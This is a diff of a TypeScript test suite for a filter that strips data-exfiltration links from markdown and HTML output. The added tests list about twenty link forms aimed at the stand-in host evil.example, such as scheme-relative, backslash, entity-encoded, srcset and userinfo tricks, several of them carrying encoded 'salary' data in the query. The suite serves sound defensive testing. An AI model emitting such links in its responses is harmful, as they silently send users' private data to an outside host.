@@ -23,11 +23,13 @@ describe('exfiltration links', () => {
     assert.equal(judgeUrl(`https://${'x'.repeat(50)}.contoso.com/`, policy), 'query-data');
   });
 
-  it('flags non-web schemes but keeps mailto and relative links', () => {
+  it('flags non-web schemes and relative links, keeps mailto', () => {
     assert.equal(judgeUrl('javascript:alert(1)', policy), 'scheme');
     assert.equal(judgeUrl('data:image/png;base64,AAAA', policy), 'scheme');
     assert.equal(judgeUrl('mailto:help@contoso.com', policy), undefined);
-    assert.deepEqual(findExfiltrationLinks('see [the FAQ](/faq)', policy), []);
+    const [f] = findExfiltrationLinks('see [the FAQ](/faq)', policy);
+    assert.equal(f?.reason, 'relative');
+    assert.equal(f?.keepText, 'the FAQ');
   });
 
   it('keeps the visible text of a removed markdown link', () => {
@@ -42,5 +44,75 @@ describe('exfiltration links', () => {
 
   it('does not match nested brackets as one huge link', () => {
     assert.deepEqual(findExfiltrationLinks('['.repeat(5000) + ']'.repeat(5000), policy), []);
+  });
+
+  describe('URL forms a client resolves to another host (issue 10, finding 5)', () => {
+    const data = 'c2VjcmV0LXNhbGFyeS1kYXRh';
+    const mustGo: Array<[string, string]> = [
+      ['scheme-relative image', `![x](//evil.example/a.png?q=${data})`],
+      ['scheme-relative link', `[x](//evil.example/?q=${data})`],
+      ['backslash image', `![x](/\\evil.example/a.png?q=${data})`],
+      ['double backslash', `![x](\\\\evil.example/a.png)`],
+      ['backslash after scheme', `[x](https:\\\\evil.example/a)`],
+      ['entity-encoded slashes', `![x](&#x2F;&#x2F;evil.example/a.png)`],
+      ['angle-bracket destination with a space', `![x](<//evil.example/a b.png>)`],
+      ['reference definition, scheme-relative', `see [the report][1]\n\n[1]: //evil.example/?q=${data}`],
+      ['reference definition on the next line', `[1]:\n   /\\evil.example/?q=${data}`],
+      ['autolink', `<https://evil.example/?q=${data}>`],
+      ['HTML img', `<img alt="x" src="//evil.example/p.png?q=${data}">`],
+      ['HTML img srcset', `<img src="https://learn.microsoft.com/a.png" srcset="https://evil.example/b.png 2x">`],
+      ['HTML a with unquoted backslash href', `<a href=/\\evil.example/x>x</a>`],
+      ['bare scheme-relative', `look at //evil.example/x?q=${data} now`],
+      ['bare backslash', `look at /\\evil.example/x?q=${data} now`],
+      ['bare host with path', `look at evil.example/x?q=${data} now`],
+      ['bare www host', 'look at www.evil.example now'],
+      ['bare common host', 'look at attacker.com now'],
+      ['userinfo trick', '[x](https://learn.microsoft.com@evil.example/)'],
+      ['image inside a link', '[![a](https://learn.microsoft.com/a.png)](//evil.example/x)'],
+    ];
+    for (const [name, text] of mustGo) {
+      it(`removes ${name}`, () => {
+        const found = findExfiltrationLinks(text, policy);
+        assert.ok(found.length > 0, `nothing found in ${text}`);
+        let out = '';
+        let at = 0;
+        for (const f of found) {
+          out += text.slice(at, f.start) + (f.keepText ?? '');
+          at = f.end;
+        }
+        out += text.slice(at);
+        assert.doesNotMatch(out, /evil\.example/, out);
+      });
+    }
+
+    it('judges link text that is itself a URL, also when the link target is allowed', () => {
+      const masked = findExfiltrationLinks(`[https://evil.example/?q=${data}](https://evil.example/?q=${data})`, policy);
+      assert.equal(masked.length, 1);
+      assert.equal(masked[0]!.keepText, '[link removed]');
+      const text = `[evil.example/?q=${data}](https://learn.microsoft.com/)`;
+      const [f] = findExfiltrationLinks(text, policy);
+      assert.equal(f?.kind, 'bare-url');
+      assert.equal(text.slice(f!.start, f!.end), `evil.example/?q=${data}`);
+    });
+
+    it('keeps allowed links, e-mail addresses, file names and version numbers', () => {
+      const text =
+        'See [docs](https://learn.microsoft.com/teams), <https://cdn.contoso.com/x>, www.contoso.com, ' +
+        'mail help@contoso.com, open Budget.xlsx, Logo.ai, install.sh or README.md, Node.js 20.19, v1.2.3, e.g. this, see app.ts:12 and 3.5/5.';
+      assert.deepEqual(findExfiltrationLinks(text, policy), []);
+    });
+
+    it('stays linear on adversarial input', () => {
+      for (const unit of ['a.', '//a', '](', '<a href=', '[x](', 'a-', '\\\\']) {
+        const small = unit.repeat(20_000);
+        const big = unit.repeat(40_000);
+        const t0 = performance.now();
+        findExfiltrationLinks(small, policy);
+        const t1 = performance.now();
+        findExfiltrationLinks(big, policy);
+        const t2 = performance.now();
+        assert.ok(t2 - t1 < 20 * Math.max(5, t1 - t0), `${unit}: ${(t1 - t0).toFixed(1)} ms then ${(t2 - t1).toFixed(1)} ms`);
+      }
+    });
   });
 });
